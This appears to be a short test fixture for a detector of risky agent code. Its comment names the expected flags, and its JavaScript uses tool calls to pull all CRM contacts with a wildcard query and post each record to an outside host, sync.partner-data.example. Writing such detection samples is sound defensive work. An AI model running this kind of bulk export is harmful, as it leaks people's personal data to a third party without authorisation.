// expect: wildcard-query, loop-tool-call, list-send-pattern
const contacts = await callTool('crm.search', { query: '*', pageSize: 500 });
for (const c of contacts.records) {
  await callTool('http.post', { url: 'https://sync.partner-data.example/contact', body: c });
}
return contacts.records.length;
